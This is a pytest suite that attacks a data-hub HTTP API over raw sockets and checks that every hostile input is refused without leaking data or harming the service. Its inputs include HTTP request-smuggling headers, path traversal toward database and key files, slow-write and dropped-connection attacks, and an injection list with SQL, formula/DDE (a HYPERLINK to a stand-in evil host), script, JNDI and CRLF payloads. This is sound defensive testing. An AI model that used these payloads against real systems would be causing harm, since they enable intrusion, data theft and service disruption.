"""Hostile requests over raw sockets: each is refused or its connection closed, and the next good one is answered."""

from __future__ import annotations

import json
import logging
import os
import re
import socket
import struct
import time
from dataclasses import replace
from pathlib import Path

import pytest
from starlette.routing import Route

from hub.actors import Role
from hub.api import serving as served
from hub.api.serving import MAX_HEAD_BYTES
from hub.callers import issue_key
from hub.requests import MAX_BODY_BYTES
from tests.hub.world import CODE, IDS, body

QUERY = f"/v1/resources/{CODE}:query"
MARK = "QX7markQX7"
GET = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
DIGITS = re.compile(rb"[0-9]+")


class Line:
    """A connection on which bytes are written as they are."""

    def __init__(self, http, wait_s=10):
        self.socket = socket.create_connection((http.base_url.host, http.base_url.port), timeout=wait_s)
        self.got = b""

    def __enter__(self):
        return self

    def __exit__(self, *error):
        self.socket.close()

    def write(self, data):
        self.socket.sendall(data)

    def read(self):
        """One answer: its status, its fields and its body; None when the connection was closed instead."""
        while b"\r\n\r\n" not in self.got:
            if not self._more():
                assert self.got == b"", self.got
                return None
        head, _, self.got = self.got.partition(b"\r\n\r\n")
        first, *lines = head.split(b"\r\n")
        fields = {name.lower(): value for name, _, value in (line.partition(b": ") for line in lines)}
        length = int(fields.get(b"content-length", b"0"))
        while len(self.got) < length:
            assert self._more()
        content, self.got = self.got[:length], self.got[length:]
        return int(DIGITS.findall(first)[2]), fields, content

    def status(self):
        found = self.read()
        return found and found[0]

    def rest(self):
        """The statuses of all answers until the connection is closed, or nothing more comes."""
        self.socket.settimeout(0.3)
        found = []
        while True:
            try:
                status = self.status()
            except TimeoutError:
                return found
            if status is None:
                return found
            found.append(status)

    def _more(self):
        try:
            more = self.socket.recv(65536)
        except ConnectionError:
            more = b""
        self.got += more
        return more


def said(http, *parts, wait_s=10):
    with Line(http, wait_s) as line:
        for part in parts:
            try:
                line.write(part)
            except ConnectionError:
                break  # closed before all was said; what was answered is still there
        return line.rest()


def head(world, *lines, path=QUERY, method="POST", length=None):
    fields = [f"{method} {path} HTTP/1.1", "Host: x", f"Authorization: Bearer {world.key}", *lines]
    if length is not None:
        fields += ["Content-Type: application/json", f"Content-Length: {length}"]
    return "\r\n".join(fields).encode("latin-1") + b"\r\n\r\n"


def call(world, content, *lines, path=QUERY):
    content = content if isinstance(content, bytes) else json.dumps(content).encode()
    return head(world, *lines, path=path, length=len(content)) + content


def ask(http, world, content, *lines, path=QUERY):
    with Line(http) as line:
        line.write(call(world, content, *lines, path=path))
        found = line.read()
        assert found is not None
        return found


def log_of(http):
    return http.app.state.service.evidence.log


@pytest.fixture(autouse=True)
def unharmed(http, world, caplog):
    """Whatever a test sends: it stands in no log, takes up no room, and the next good call is answered."""
    logger = logging.getLogger("uvicorn.error")
    logger.addHandler(caplog.handler)
    level = logger.level
    logger.setLevel(logging.WARNING)  # as `hub.api.serving.run` has it
    log = log_of(http)
    began = log.size
    yield
    logger.removeHandler(caplog.handler)
    logger.setLevel(level)
    status, _, content = ask(http, world, body())
    assert status == 200
    assert len(json.loads(content)["records"]) == 1
    assert http.app.state.fast.room.taken == 0
    for index in range(began, log.size):
        assert MARK.encode() not in log.entry(index)
    assert MARK not in caplog.text
    assert "Traceback" not in caplog.text


def refused(statuses, *, most=1):
    """At most *most* answers, all of them 4xx; none: the connection was closed."""
    assert len(statuses) <= most, statuses
    assert all(400 <= status < 500 for status in statuses), statuses


class TestBodies:
    @pytest.mark.parametrize(
        "content",
        [
            b"",
            b"null",
            b"[]",
            b'"' + MARK.encode() + b'"',
            b'{"keys": {"citizen_id": "' + MARK.encode(),
            b'{"keys": {}, "keys": {}}',
            b'{"keys": {"citizen_id": "1", "citizen_id": "2"}, "purpose": {}}',
            b'{"keys": {"citizen_id": NaN}}',
            b'{"keys": {"citizen_id": 1e400}}',
            b'{"keys": {"citizen_id": ' + b"9" * 5_000 + b"}}",
            b"[" * 100_000,
            b'{"a":' * 20_000 + b"1" + b"}" * 20_000,
            b"\xef\xbb\xbf" + json.dumps(body()).encode(),
            json.dumps(body()).encode("utf-16"),
            json.dumps(body()).encode("utf-32"),
            json.dumps(body(keys={"citizen_id": "张"}), ensure_ascii=False).encode("gb18030"),
            b'{"keys": {"citizen_id": "\xc0\xaf"}}',
            b'{"keys": {"citizen_id": "\\ud800"}}',
            json.dumps(body()).encode() + b"\x00",
            json.dumps(body()).encode() * 2,
        ],
    )
    def test_what_is_no_call_is_refused(self, http, world, content):
        status, fields, said = ask(http, world, content)
        assert status in (400, 422)
        assert fields[b"content-type"] == b"application/problem+json"
        assert MARK.encode() not in said

    @pytest.mark.parametrize(
        "media", ["text/plain", "application/json; charset=gbk", "application/json, text/plain", MARK, "", "\xff"]
    )
    def test_another_type_is_refused(self, http, world, media):
        content = json.dumps(body()).encode()
        sent = head(world, f"Content-Type: {media}", f"Content-Length: {len(content)}") + content
        assert said(http, sent) == [415]

    def test_a_compressed_body_is_not_unpacked(self, http, world):
        assert ask(http, world, b"\x1f\x8b\x08" + bytes(50), "Content-Encoding: gzip")[0] == 415

    @pytest.mark.parametrize(
        "path", [QUERY, "/v1/resources/x:explain", "/v1/applications", "/v1/demands", "/v1/mydata"]
    )
    @pytest.mark.parametrize("chunked", [False, True])
    def test_a_huge_body_is_not_kept(self, http, world, path, chunked):
        block = b"x" * (1 << 20)
        before = memory_bytes()
        fields = ["Content-Type: application/json"]
        fields.append("Transfer-Encoding: chunked" if chunked else f"Content-Length: {1 << 30}")
        part = b"%x\r\n%b\r\n" % (len(block), block) if chunked else block
        with Line(http) as line:
            line.write(head(world, *fields, path=path))
            most = 0
            try:
                for _ in range(100):
                    line.write(part)
                    most = max(most, memory_bytes() - before)
            except OSError:
                pass  # closed: what is not read need not be sent
            assert line.status() in (401, 403, 413, None)
        assert most < 48 << 20

    def test_a_body_longer_than_any_head_is_taken_with_its_head(self, http, world):
        # One write, and cut where the head ends.
        whole = call(world, b" " * 200_000 + json.dumps(body()).encode())
        end = whole.index(b"\r\n\r\n")
        for cut in (0, end - 1, end + 1, end + 2, end + 3, end + 4, end + 70_000):
            with Line(http) as line:
                line.write(whole[:cut])
                time.sleep(0.02)
                line.write(whole[cut:])
                assert line.status() == 200

    def test_one_byte_too_many_is_too_large(self, http, world):
        assert ask(http, world, b" " * (MAX_BODY_BYTES + 1))[0] == 413
        assert ask(http, world, b" " * MAX_BODY_BYTES)[0] == 400


def memory_bytes():
    return int(Path("/proc/self/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")


class TestHeads:
    @pytest.mark.parametrize(
        "sent",
        [
            b"\x00" * 100,
            b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50),  # a TLS handshake
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            b"GET\r\n\r\n",
            b"GET /healthz HTTP/9.9\r\nHost: x\r\n\r\n",
            b"GET /healthz HTTP/1.1 " + MARK.encode() + b"\r\nHost: x\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost x\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nA\x00B: 1\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nA: 1\x002\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nA : 1\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\n: 1\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nA: 1\rB: 2\r\n\r\n",
            b"GET /\xff\xfe HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /\x01 HTTP/1.1\r\nHost: x\r\n\r\n",
            b"CONNECT internal:22 HTTP/1.1\r\nHost: x\r\n\r\n",
            MARK.encode() + b" /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: " + b"x" * MAX_HEAD_BYTES + b"\r\n\r\n",
            b"GET /" + b"x" * MAX_HEAD_BYTES + b" HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\n" + b"".join(b"X-%d: %b\r\n" % (n, b"x" * 90) for n in range(1_000)) + b"\r\n",
        ],
    )
    def test_what_is_no_request_is_refused(self, http, sent):
        refused(said(http, sent))

    @pytest.mark.parametrize(
        "lines",
        [
            b"Content-Length: 0\r\nContent-Length: 35\r\n",
            b"Content-Length: 0, 35\r\n",
            b"Content-Length: +0\r\n",
            b"Content-Length: -1\r\n",
            b"Content-Length: 0x0\r\n",
            b"Content-Length: 99999999999999999999999\r\n",
            b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
            b"Transfer-Encoding: chunked\r\nContent-Length: 0\r\n",
            b"Transfer-Encoding: chunked, identity\r\n",
            b"Transfer-Encoding: xchunked\r\n",
            b"Transfer-Encoding : chunked\r\n",
            b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
            b"Transfer-Encoding:\x0bchunked\r\n",
            b"X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n",
        ],
    )
    def test_no_second_request_is_smuggled_in(self, http, lines):
        sent = b"POST /v1/mydata HTTP/1.1\r\nHost: x\r\n" + lines + b"\r\n" + GET
        found = said(http, sent)
        # 200 would be the answer of the request that was hidden in the body of the first.
        refused(found)

    def test_a_body_is_not_taken_for_a_request(self, http, world):
        # Whole or in chunks, what is in the body stays in the body.
        inner = head(world, path="/healthz", method="GET")
        assert said(http, call(world, inner)) == [400]
        chunks = head(world, "Content-Type: application/json", "Transfer-Encoding: chunked")
        assert said(http, chunks + b"%x\r\n%b\r\n0\r\n\r\n" % (len(inner), inner)) == [400]

    @pytest.mark.parametrize("size", [b"-1", b"zz", b"fffffffffffffffff", b"1 1", b"0x1"])
    def test_a_broken_chunk_ends_the_connection(self, http, world, size):
        sent = head(world, "Content-Type: application/json", "Transfer-Encoding: chunked") + size + b"\r\n{}\r\n" + GET
        refused(said(http, sent))

    def test_what_readers_differ_on_hides_nothing(self, http):
        for sent in (
            b"GET  /healthz HTTP/1.1\r\nHost: x\r\n\r\n",
            b"GET /healthz HTTP/0.9\r\n\r\n",
            b"GET /healthz\r\n\r\n",
            b"GET /healthz HTTP/1.1\nHost: x\n\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\nX: y\r\n\r\n",
            b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: y\r\n z\r\n\r\n",
        ):
            found = said(http, sent)
            assert len(found) <= 1
            assert all(status == 200 or 400 <= status < 500 for status in found)

    def test_a_folded_credential_is_none(self, http, world):
        content = json.dumps(body()).encode()
        sent = head(world, length=len(content)).replace(b"Bearer ", b"\r\n Bearer ") + content
        found = said(http, sent)
        assert found in ([200], [400], [401], [])  # read as one line (RFC 9112 §5.2), or refused

    @pytest.mark.parametrize(
        "lines",
        [
            ("Authorization: Bearer zt_other",),
            ("Content-Digest: \xff",),
            ("Content-Digest: sha-256=:AAAA:", "Content-Digest: sha-256=:BBBB:"),
            ("Signature-Input: \xff", "Signature: \xff"),
            ('Signature-Input: sig=("@method");tag="zhengtong-call"', "Signature: sig=:AAAA:"),
            ("gjgxjhpt_rid: \xff", "gjgxjhpt_sid: 1", "gjgxjhpt_rtime: 9", "gjgxjhpt_sign: x"),
            ("Idempotency-Key: " + MARK * 100,),
            ("Idempotency-Key: \xff",),
        ],
    )
    def test_fields_that_contradict_or_cannot_be_read_are_refused(self, http, world, lines):
        status, _, content = ask(http, world, body(), *lines)
        assert 400 <= status < 500
        assert MARK.encode() not in content

    @pytest.mark.parametrize(
        "lines",
        [
            tuple(f"X-{n}: {n}" for n in range(1_000)),
            (f"Accept-Language: {MARK * 300}",),
            ("Accept-Language: \xff;q=\xff",),
            (f"Accept-Signature: {MARK}",),
            ("Accept-Signature: \xff",),
            (f"Cookie: {MARK}",),
            ("X-Forwarded-For: 127.0.0.1", "Forwarded: for=127.0.0.1", "X-Forwarded-Host: evil.example"),
            ("X-HTTP-Method-Override: DELETE",),
            ("Expect: 100-continue",),
            ("Connection: Authorization, close",),
        ],
    )
    def test_fields_that_mean_nothing_to_us_change_nothing(self, http, world, lines):
        with Line(http) as line:
            line.write(call(world, body(), *lines))
            found = line.read()
            if found[0] == 100:
                found = line.read()
        assert found[0] == 200
        assert MARK.encode() not in found[2]
        assert b"set-cookie" not in found[1]


class TestPaths:
    @pytest.mark.parametrize(
        "path",
        [
            "/v1/log/../control.sqlite",
            "/v1/log/../keys/log.seed",
            "/v1/log/%2e%2e/control.sqlite",
            "/v1/log/%2e%2e%2fcontrol.sqlite",
            "/v1/log/..%2fcontrol.sqlite",
            "/v1/log/..%5ccontrol.sqlite",
            "/v1/log/%252e%252e%252fcontrol.sqlite",
            "/v1/log/%c0%ae%c0%ae%c0%afcontrol.sqlite",
            "/v1/log/%e0%80%ae%e0%80%ae/control.sqlite",
            "/v1/log/tile/0/000/../../../../control.sqlite",
            "/v1/log//etc/passwd",
            "/v1/log/%2fetc%2fpasswd",
            "/v1/log/checkpoint%00",
            "/v1/log/checkpoint%00.txt",
            "/v1/log/tile/0/٠٠٠".replace("٠", "%d9%a0"),
            "/v1/status/..%2f..%2fcontrol.sqlite",
            "/v1/status/%00",
            "/v1/log/proof/-1",
            "/v1/log/proof/" + "9" * 30,
            "/v1/log/proof/" + "9" * 5_000,
            "/v1/log/proof/%d9%a1",
            "/v1/resources/%00",
            "/v1/resources/%ff%fe",
            "/v1/resources/%ed%a0%80",
            "/v1/resources/..%2f..%2fadmin",
            "/v1/problems/%00",
            "/v1/problems/../catalog%00",
            "//healthz",
            "/./healthz",
            "/healthz/..;/metrics",
            "/HEALTHZ",
            "/%",
            "/%zz",
            "*",
            "/v1/lists/%00/diff/%00",
            "/v1/batches/..%2f..%2fcontrol.sqlite/parts/1",
            "/v1/applications/%00",
            "/v1/search?q=%00&page=1",
            "/v1/catalog?page=1e9",
            "/v1/catalog?page=" + "9" * 5_000,
            "/v1/catalog?size=%ff",
        ],
    )
    def test_a_path_leads_nowhere_else(self, http, world, path):
        with Line(http) as line:
            line.write(head(world, path=path, method="GET"))
            found = line.read()
        if found is not None:
            assert 400 <= found[0] < 500 or (found[0] == 200 and path.startswith("/v1/search"))
            assert b"SQLite" not in found[2]
            assert b"root:" not in found[2]

    @pytest.mark.parametrize(
        "code", ["..%2f..%2fx", "%00", "%ff", "%ed%a0%80", "%252f", "x" * 5_000, MARK, "a%0d%0aset-cookie:%20a=b"]
    )
    @pytest.mark.parametrize("action", ["query", "verify", "explain", "batch", "changes"])
    def test_a_resource_by_another_name_is_none(self, http, world, code, action):
        content = body(claims={"name": "x"}) if action == "verify" else body()
        if action in ("batch", "changes"):
            del content["keys"]
        status, fields, _ = ask(http, world, content, path=f"/v1/resources/{code}:{action}")
        assert status in (403, 404, 422)
        assert b"set-cookie" not in fields

    def test_an_address_in_full_is_the_same_address(self, http, world):
        found = said(http, head(world, path="http://evil.example/healthz", method="GET"))
        assert all(status == 200 or 400 <= status < 500 for status in found)


class TestMethods:
    @pytest.mark.parametrize("method", ["HEAD", "OPTIONS", "TRACE", "PUT", "DELETE", "PATCH", "PROPFIND", "LOCK"])
    def test_no_route_has_a_method_that_it_does_not_document(self, http, world, method):
        paths = sorted({re.sub(r"\{[^}]*\}", "x", one.path) for one in http.app.routes if isinstance(one, Route)})
        assert len(paths) > 50
        with Line(http) as line:
            for path in paths:
                line.write(head(world, f"X: {MARK}", path=path, method=method))
                while b"\r\n\r\n" not in line.got:
                    assert line._more(), path
                status = int(DIGITS.findall(line.got)[2])
                assert status in (404, 405) or (method == "HEAD" and path == "/openapi.json"), (path, status)
                if method == "HEAD":  # no body, whatever the length says
                    line.got = b""
                else:
                    content = line.read()[2]
                    assert MARK.encode() not in content

    def test_a_web_socket_is_not_opened(self, http, caplog):
        fields = b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
        sent = b"GET /healthz HTTP/1.1\r\nHost: x\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n" + fields + b"\r\n"
        found = said(http, sent)
        assert found
        assert 101 not in found

    def test_an_old_client_is_answered_and_left(self, http):
        with Line(http) as line:
            line.write(b"GET /healthz HTTP/1.0\r\n\r\n")
            assert line.status() == 200
            assert line.read() is None


class TestMany:
    def test_requests_in_one_write_are_answered_in_their_order(self, http, world):
        calls = [body(), {"keys": MARK}, body(keys={"citizen_id": IDS[1]}), [], body(keys={"citizen_id": IDS[2]})]
        with Line(http) as line:
            line.write(b"".join(call(world, content) for content in calls * 4) + GET)
            found = [line.read() for _ in range(21)]
        assert [one[0] for one in found] == [200, 422, 200, 422, 200] * 4 + [200]
        asked = [json.loads(one[2])["records"][0]["citizen_id"] for one in found[:5] if one[0] == 200]
        assert len(set(asked)) == 3

    def test_what_is_broken_ends_what_was_sent_with_it(self, http, world):
        assert said(http, GET + b"\x00\x00\r\n\r\n" + GET) in ([200, 400], [200], [400])
        assert said(http, call(world, body()) + b"GET / HTTP/1.1\r\nContent-Length: x\r\n\r\n" + GET) in (
            [200, 400],
            [400],
            [200],
        )


class TestSlow:
    @pytest.fixture(autouse=True)
    def short(self, monkeypatch):
        monkeypatch.setattr(served, "REQUEST_WAIT_S", 0.4)
        monkeypatch.setattr("hub.api.fast.BODY_WAIT_S", 0.3)
        monkeypatch.setattr("hub.api.replies.BODY_WAIT_S", 0.3)

    @pytest.mark.parametrize("path", [QUERY, "/v1/demands"])
    @pytest.mark.parametrize("part", ["head", "body"])
    def test_a_byte_now_and_then_keeps_no_connection(self, http, world, path, part):
        whole = call(world, body(operator=MARK), path=path)
        start = 20 if part == "head" else whole.index(b"\r\n\r\n") + 6
        began = time.monotonic()
        with Line(http) as line:
            line.write(whole[:start])
            for at in range(start, len(whole)):
                try:
                    line.write(whole[at : at + 1])
                except ConnectionError:
                    break
                time.sleep(0.05)
                if time.monotonic() - began > 3:
                    break
            # A request that was given up is not answered as if it were there.
            assert all(status in (400, 401, 403, 408, 503) for status in line.rest())
        assert at < len(whole) - 1

    def test_who_does_not_read_his_answers_stops_nobody(self, http, world):
        with Line(http) as line:
            line.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            line.socket.settimeout(0.5)
            try:
                for _ in range(200):
                    line.write(call(world, body()) * 10)
            except OSError:
                pass  # nothing more of it is taken in, or he has been left
            assert ask(http, world, body())[0] == 200


class TestDropped:
    @pytest.mark.parametrize("path", [QUERY, "/v1/mydata", "/v1/lists"])
    @pytest.mark.parametrize("hard", [False, True])
    def test_at_every_stage(self, http, world, path, hard):
        content = body(purpose={"matter": "SX001", "case": MARK})
        whole = call(world, content, path=path)
        before = http.app.state.fast.room.taken
        for stop in [*range(0, len(whole), 23), len(whole) - 1, len(whole)]:
            with Line(http) as line:
                line.write(whole[:stop])
                if hard:  # reset instead of an orderly end
                    line.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        for _ in range(100):
            if http.app.state.fast.room.taken == before:
                break
            time.sleep(0.02)
        assert http.app.state.fast.room.taken == before

    def test_a_body_that_ends_early_is_no_call(self, http, world):
        whole = call(world, body())
        size = log_of(http).size
        with Line(http) as line:
            line.write(whole[:-1])
            line.socket.shutdown(socket.SHUT_WR)
            assert line.rest() in ([], [400], [503])
        kinds = [json.loads(log_of(http).entry(index))["kind"] for index in range(size, log_of(http).size)]
        assert "invocation.answered" not in kinds


@pytest.fixture(scope="module")
def keyed(http, world):
    """A caller with every role."""
    service = http.app.state.service
    made = issue_key(
        service.control, service.evidence, world.list, department="RS", name="all", by="office", roles=tuple(Role)
    )
    return replace(world, key=made.key)


class TestTheOffice:
    @pytest.mark.parametrize("content", [b"null", b"1", b'"a"', b"[]", b'[["words", "a"]]'])
    @pytest.mark.parametrize("path", ["/v1/demands", "/v1/mydata", "/v1/lists/L1:approve", "/v1/applications/A1:ask"])
    def test_a_body_that_is_no_object_is_refused(self, http, keyed, path, content):
        status, _, said = ask(http, keyed, content, path=path)
        assert (status, json.loads(said)["code"]) == (422, "request_invalid")

    @pytest.mark.parametrize("number", [2**63, 2**64, 10**40])
    @pytest.mark.parametrize("path", ["/v1/loads?after={}", "/v1/log/proof/{}", "/v1/notices/{}:read"])
    def test_a_number_that_no_database_holds_is_refused(self, http, keyed, path, number):
        method = "POST" if path.endswith("read") else "GET"
        with Line(http) as line:
            line.write(head(keyed, path=path.format(number), method=method))
            assert line.status() in (404, 422)

    def test_a_day_that_is_needed_is_no_empty_text(self, http, keyed):
        path = "/v1/corrections/K1:accept"
        status, _, said = ask(http, keyed, {"mend_by": "", "answer": "x"}, path=path)
        assert (status, json.loads(said)["code"]) == (422, "request_invalid")


INJECTED = [
    f"'; DROP TABLE grants; --{MARK}",
    f'" OR 1=1 --{MARK}',
    f'=HYPERLINK("http://evil/{MARK}")',
    f"@SUM(1+1)*cmd|' /C calc'!{MARK}",
    f"<script>{MARK}</script>",
    f"{{{{7*7}}}}${{jndi:ldap://{MARK}}}",
    f"%s%n{{0}}{MARK}",
    f"\r\nset-cookie: {MARK}=1",
    f"\u202e{MARK}\ufeff",
    f"a\x00{MARK}",
]


@pytest.mark.parametrize("text", INJECTED)
class TestInjected:
    def check(self, got, *statuses, quoted=False):
        status, fields, content = got
        plain = json.loads(content)
        assert status in statuses
        if quoted:
            # The caller is told which of its names is not known, in JSON that no browser takes for a page.
            assert fields[b"content-type"] == b"application/problem+json"
            assert fields[b"x-content-type-options"] == b"nosniff"
            plain.pop("detail")
            for reason in plain.pop("reasons", ()):
                assert MARK not in reason["code"] + reason["remedy"]
        assert MARK not in json.dumps(plain, ensure_ascii=False)
        assert not [1 for value in fields.values() if MARK.encode() in value]
        assert b"set-cookie" not in fields

    def test_into_keys(self, http, world, text):
        got = ask(http, world, body(keys={"citizen_id": text}))
        self.check(got, 200, 422)
        if got[0] == 200:
            assert json.loads(got[2])["records"] == []
        self.check(ask(http, world, body(keys=[{"citizen_id": text}, {"citizen_id": IDS[0]}])), 200, 422)
        self.check(ask(http, world, body(keys={text: "1"})), 403, 422, quoted=True)

    def test_into_claims(self, http, world, text):
        path = f"/v1/resources/{CODE}:verify"
        # 429: so many claims about one person do not match that no more are taken.
        self.check(ask(http, world, body(claims={"name": text, "birth": text}), path=path), 200, 422, 429)
        self.check(ask(http, world, body(claims={text: "x"}), path=path), 403, 422, 429, quoted=True)

    def test_into_the_purpose(self, http, world, text):
        for member in ("case", "operator", "replaces"):
            self.check(ask(http, world, body(purpose={"matter": "SX001", member: text})), 200)
        self.check(ask(http, world, body(purpose={"matter": "SX001", text: "x"})), 422)
        self.check(ask(http, world, body(purpose={"matter": text})), 403, quoted=True)

    def test_into_the_members_and_names(self, http, world, text):
        self.check(ask(http, world, body(**{text: 1})), 422)
        self.check(ask(http, world, body(fields=[text])), 403, 422, quoted=True)
        self.check(ask(http, world, body(grant=text)), 403, quoted=True)
